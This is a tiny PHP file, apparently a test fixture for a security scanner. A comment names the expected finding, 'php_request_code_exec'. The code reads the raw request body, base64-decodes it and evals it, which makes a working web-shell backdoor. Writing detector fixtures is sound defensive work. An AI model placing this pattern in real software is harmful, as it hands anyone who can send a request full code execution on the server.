<?php
// want: php_request_code_exec
$body = file_get_contents('php://input');
eval(base64_decode($body));
